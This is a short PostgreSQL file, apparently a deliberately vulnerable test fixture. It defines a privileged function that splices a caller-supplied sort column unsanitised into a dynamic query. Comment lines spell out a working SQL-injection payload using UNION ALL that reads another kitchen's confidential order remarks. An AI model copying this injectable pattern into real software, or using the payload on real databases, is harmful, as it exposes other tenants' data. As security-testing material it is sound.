-- The column to sort by goes into the text of the query as it comes, so the caller can add a query of his
-- own.
-- about: orders_sorted
-- as: hf_catering_app
-- exploit: SET catering.kitchen_id = '1';
-- exploit: SELECT * FROM api.orders_sorted('1) UNION ALL (SELECT order_no, remark FROM orders WHERE
-- exploit: kitchen_id = 2');
-- shows: Road-secret remark
CREATE FUNCTION api.orders_sorted(p_sort text) RETURNS TABLE (order_no integer, remark text)
LANGUAGE plpgsql STABLE SECURITY DEFINER SET search_path = store, pg_temp AS $$
BEGIN
  RETURN QUERY EXECUTE format(
    '(SELECT o.order_no, o.remark FROM orders o WHERE o.kitchen_id = $1 ORDER BY %s)', p_sort)
    USING inner_api.kitchen();
END
$$;
GRANT EXECUTE ON FUNCTION api.orders_sorted(text) TO hf_catering_app;
